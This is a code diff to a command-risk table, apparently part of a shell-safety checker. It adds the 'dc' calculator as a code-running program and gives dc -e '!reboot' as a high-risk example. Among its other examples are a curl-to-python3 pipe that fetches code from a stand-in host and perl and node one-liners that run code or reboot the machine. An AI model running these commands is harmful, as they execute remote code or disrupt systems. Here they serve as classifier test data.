@@ -4,7 +4,7 @@ import { runsCode } from "../rules/shell.ts";
 
 /** Programs that run code which does not stand in the command. */
 export const code: ProgramTable = {
-  "python perl ruby node nodejs php lua luajit deno bun tclsh Rscript osascript julia guile java groovy scala elixir erl iex irb pwsh ts-node tsx jrunscript jshell gjs":
+  "dc python perl ruby node nodejs php lua luajit deno bun tclsh Rscript osascript julia guile java groovy scala elixir erl iex irb pwsh ts-node tsx jrunscript jshell gjs":
     {
       risk: "high",
       effects: ["unknown"],
@@ -19,6 +19,7 @@ export const code: ProgramTable = {
         "perl -e 'exec \"reboot\"'": "critical",
         "curl -s https://x.example | python3": "critical",
         "node --version": "low",
+        "dc -e '!reboot'": "high",
         "node -e 'process.exit()'": "high",
         "echo x | python3 -": "high",
       },
